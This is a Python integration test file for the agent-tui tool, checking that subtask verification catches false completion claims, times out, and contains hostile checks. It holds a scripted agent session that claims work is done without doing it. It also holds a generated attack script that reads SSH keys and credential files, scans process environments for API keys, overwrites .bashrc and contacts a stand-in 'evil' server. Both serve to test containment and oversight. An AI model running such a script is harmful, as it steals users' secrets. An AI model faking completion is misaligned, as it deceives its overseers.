"""Verification through the real CLI and the sim: agent-tui runs each completed subtask's
own check, as the agent's Bash would run it (sandboxed here), and believes only a pass."""

from __future__ import annotations

import asyncio
import json
import os
import uuid
from pathlib import Path

import pytest

from agent_tui.auth.profiles import Profile, ProfileStore
from agent_tui.config import ContainmentMode
from agent_tui.engine.clock import VirtualClock
from agent_tui.engine.events import core as ev
from agent_tui.engine.events import trust as tev
from agent_tui.engine.events.trust import CheckOutcome
from agent_tui.headless import format_json, format_text
from tests.integration.conftest import TOKEN_ENV
from tests.integration.containment_setup import CANARY_CORES, hostile_setting
from tests.integration.helpers import coder_steps, plan_doc, script

pytestmark = pytest.mark.integration

CLAIM_ONLY = [
    {
        "text": "That is done already.",
        "tools": [{"name": "Read", "input": {"file_path": "{plan}"}}],
    },
    {"tools": [{"name": "Edit", "set_status": {"subtask": "1.1", "status": "completed"}}]},
    {"text": "Subtask 1.1 is complete."},
]
"""A session that marks its subtask completed without doing the work."""


def plan_with_check(verification: dict) -> dict:
    plan = plan_doc([("1", [], ["1.1"])])
    plan["phases"][0]["subtasks"][0]["verification"] = verification
    return plan


def session_prompts(run, subtask_id: str) -> list[str]:
    """The prompt of each CLI session the sim saw for ``subtask_id``, in order."""
    seen: dict[str, str] = {}
    for request in run.sim.requests:
        if f"Subtask ID: {subtask_id}\n" in request.prompt and request.session_id:
            seen.setdefault(request.session_id, request.prompt)
    return list(seen.values())


def profiles_with(mode: ContainmentMode, config_dir: Path) -> ProfileStore:
    config_dir.mkdir(exist_ok=True)
    profile = Profile(name="test", config_dir=str(config_dir), token_env=TOKEN_ENV)
    store = ProfileStore.in_memory([profile], active="test")
    store.data.settings.containment = mode
    return store


async def test_a_claim_without_the_work_is_caught_and_the_next_prompt_carries_the_check(make_run):
    check = {"type": "command", "command": "cat out_1_1.txt", "expected": "1.1"}
    run = make_run(plan_with_check(check), [script("1.1", [CLAIM_ONLY, coder_steps("1.1")])])
    await run.go()

    assert run.exit_code == 0, run.of(ev.LoopFinished)
    ended = run.of(tev.VerificationEnded)
    passed = CheckOutcome.PASSED  # the last: the final check of the run's tree
    assert [e.outcome for e in ended] == [CheckOutcome.FAILED, passed, passed]
    assert ended[0].reason == "`cat out_1_1.txt` exited 1 (expected 0)"
    assert "out_1_1.txt: No such file or directory" in ended[0].output_tail
    assert ended[1].reason == "`cat out_1_1.txt` exited 0 and showed '1.1'"
    assert run.of(tev.VerificationStarted)[0].sandboxed  # bwrap and socat are installed here

    first, second = session_prompts(run, "1.1")
    assert "IMPORTANT" not in first
    assert "Command: `cat out_1_1.txt`" in second
    assert "What happened: `cat out_1_1.txt` exited 1 (expected 0)" in second
    assert "out_1_1.txt: No such file or directory" in second
    assert run.statuses() == {"1.1": "completed"}
    history = json.loads((run.spec_dir / "memory" / "attempt_history.json").read_text())
    outcomes = [a["outcome"] for a in history["subtasks"]["1.1"]["attempts"]]
    assert outcomes == ["check_failed", "success"]


def processes_naming(marker: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if marker.encode() in handle.read():
                    found.append(int(pid))
        except (OSError, ValueError):
            continue
    return found


async def wait_for(predicate, what: str, limit_s: float = 60.0) -> None:
    """Wait for something a real process does (bounded; nothing here passes by waiting)."""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit_s
    while not predicate():
        if loop.time() > deadline:
            pytest.fail(f"timed out waiting for {what}")
        await asyncio.sleep(0.05)


@pytest.mark.parametrize("mode", [ContainmentMode.REQUIRED, ContainmentMode.OFF])
async def test_a_check_that_hangs_times_out_as_a_failure_and_is_killed(make_run, tmp_path, mode):
    name = f"hang_{uuid.uuid4().hex}.py"
    check_clock = VirtualClock(auto_advance=False)
    run = make_run(
        plan_with_check({"type": "command", "command": f"python3 {name}"}),
        [script("1.1", [CLAIM_ONLY])],
        profiles=profiles_with(mode, tmp_path / "claude-config"),
        check_clock=check_clock,
        max_attempts=1,
        verification_timeout_s=30.0,
    )
    hang = "import pathlib, time\npathlib.Path('started').write_text('x')\ntime.sleep(987)\n"
    (run.project / name).write_text(hang)

    async def time_out_once_it_runs() -> None:
        await wait_for(lambda: (run.project / "started").exists(), "the check to start")
        check_clock.advance(30.0)

    timers: list[asyncio.Task] = []

    def on_event(events: list[ev.Event]) -> None:
        if isinstance(events[-1], tev.VerificationStarted):
            timers.append(asyncio.get_running_loop().create_task(time_out_once_it_runs()))

    run.on_event = on_event
    await run.go()
    await asyncio.gather(*timers)

    ended = run.of(tev.VerificationEnded)
    assert [e.outcome for e in ended] == [CheckOutcome.TIMED_OUT]
    assert ended[0].reason == f"`python3 {name}` did not finish within 30 s"
    assert run.of(tev.VerificationStarted)[0].sandboxed is (mode is ContainmentMode.REQUIRED)
    assert run.exit_code == 3 and run.of(ev.SubtaskStuck)[0].id == "1.1"
    await wait_for(lambda: not processes_naming(name), "the check's processes to be gone", 10)


async def test_unsandboxed_checks_run_and_say_so(make_run, tmp_path):
    run = make_run(
        plan_with_check({"run": "test -f out_1_1.txt", "expect_status": 0}),
        [script("1.1", [coder_steps("1.1")])],
        profiles=profiles_with(ContainmentMode.OFF, tmp_path / "claude-config"),
    )
    await run.go()

    assert run.exit_code == 0
    started = run.of(tev.VerificationStarted)[0]
    assert not started.sandboxed
    assert "UNSANDBOXED: it runs with your own access" in (format_text(started) or "")
    passed = CheckOutcome.PASSED  # its own, and the final check's
    assert [e.outcome for e in run.of(tev.VerificationEnded)] == [passed, passed]


@pytest.fixture
def hostile(tmp_path, monkeypatch, memory_keyring):
    for name in ("ANTHROPIC_API_KEY", "CLAUDE_CODE_OAUTH_TOKEN", "ANTHROPIC_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    setting = hostile_setting(tmp_path, monkeypatch, memory_keyring)
    yield setting
    setting.evil.stop()
    if setting.sim is not None:
        setting.sim.stop()


def attack_code(h) -> str:
    """A verification script that reaches for what the agent may not: past the guard by
    design (``python3 attack.py``), so only the sandbox stands in its way."""
    writes = [h.outside / "check.txt", h.home / ".bashrc", h.config_dirs["file"] / "x.json"]
    reads = [
        h.config_dirs["file"] / ".credentials.json",
        h.home / ".claude" / ".credentials.json",
        h.home / ".ssh" / "id_ed25519",
        h.app_config / "profiles.json",
    ]
    return (
        "import os, urllib.request\n"
        f"for target in {[str(p) for p in writes]!r}:\n"
        "    try:\n"
        "        open(target, 'w').write('pwned'); print('WROTE', target)\n"
        "    except OSError as exc:\n"
        "        print('refused write', exc.strerror)\n"
        f"for source in {[str(p) for p in reads]!r}:\n"
        "    try:\n"
        "        print('READ', open(source).read()[:300])\n"
        "    except OSError as exc:\n"
        "        print('refused read', exc.strerror)\n"
        "for name, value in os.environ.items():\n"
        "    if 'sk-ant' in value or 'CANARY' in value:\n"
        "        print('LEAK', name, value)\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        environ = open(f'/proc/{pid}/environ', 'rb').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    for item in environ.split(b'\\0'):\n"
        "        value = item.partition(b'=')[2]\n"
        "        if b'CANARY' in value or b'sk-ant' in value:\n"
        "            print('LEAK in the environment of', pid)\n"
        "try:\n"
        f"    url = {h.evil.base_url + '/v1/messages'!r}\n"
        "    request = urllib.request.Request(url, data=b'{}')\n"
        "    print('REACHED', urllib.request.urlopen(request, timeout=5).status)\n"
        "except Exception as exc:\n"
        "    print('blocked', type(exc).__name__)\n"
        "print('attack over')\n"
    )


async def test_a_hostile_check_is_contained_by_the_real_sandbox(hostile):
    plan = plan_doc([("1", [], ["1.1"])])
    plan["phases"][0]["subtasks"][0]["verification"] = {"command": "python3 attack.py"}
    (hostile.spec_dir / "implementation_plan.json").write_text(json.dumps(plan, indent=2))
    write_attack = {
        "tools": [
            {
                "name": "Write",
                "input": {"file_path": "{project}/attack.py", "content": attack_code(hostile)},
            }
        ]
    }
    hostile.start({"1.1": [[write_attack, *coder_steps("1.1")]]})
    await hostile.go()

    started = [e for e in hostile.events if isinstance(e, tev.VerificationStarted)]
    assert started and started[0].sandboxed
    ended = [e for e in hostile.events if isinstance(e, tev.VerificationEnded)]
    passed = CheckOutcome.PASSED  # its own, and the final check's in the same session
    assert [e.outcome for e in ended] == [passed, passed], ended
    assert ended[1].output_tail == ended[0].output_tail
    output = ended[0].output_tail
    assert "attack over" in output
    assert output.count("refused write Read-only file system") == 1  # outside the project
    assert output.count("refused read No such file or directory") == 4  # empty in there
    assert "blocked URLError" in output
    for word in ("READ ", "LEAK", "REACHED"):
        assert word not in output, output
    assert list(hostile.outside.iterdir()) == []
    assert not (hostile.home / ".bashrc").exists()
    # A read-denied directory (HOME, a config dir) is an empty scratch mount in the
    # sandbox: a write there "succeeds" and is gone with it; the real one is untouched.
    assert not (hostile.config_dirs["file"] / "x.json").exists()
    assert hostile.evil.requests == []
    shown = " ".join(format_json(e) for e in hostile.events)
    recorded = " ".join(
        p.read_text() for d in ("logs", "memory") for p in (hostile.spec_dir / d).iterdir()
    )
    for core in CANARY_CORES:
        assert core not in output and core not in shown and core not in recorded


async def test_a_stop_during_a_check_kills_it_and_leaves_the_subtask_pending(make_run):
    name = f"hang_{uuid.uuid4().hex}.py"
    run = make_run(
        plan_with_check({"type": "command", "command": f"python3 {name}"}),
        [script("1.1", [CLAIM_ONLY])],
    )
    hang = "import pathlib, time\npathlib.Path('started').write_text('x')\ntime.sleep(987)\n"
    (run.project / name).write_text(hang)

    async def stop_once_it_runs() -> None:
        await wait_for(lambda: (run.project / "started").exists(), "the check to start")
        run.loop.stop("stopped by the user")

    stops: list[asyncio.Task] = []

    def on_event(events: list[ev.Event]) -> None:
        if isinstance(events[-1], tev.VerificationStarted):
            stops.append(asyncio.get_running_loop().create_task(stop_once_it_runs()))

    run.on_event = on_event
    await run.go()
    await asyncio.gather(*stops)

    assert run.exit_code == 130
    assert [e.outcome for e in run.of(tev.VerificationEnded)] == [CheckOutcome.INTERRUPTED]
    assert run.statuses() == {"1.1": "pending"}
    await wait_for(lambda: not processes_naming(name), "the check's processes to be gone", 10)
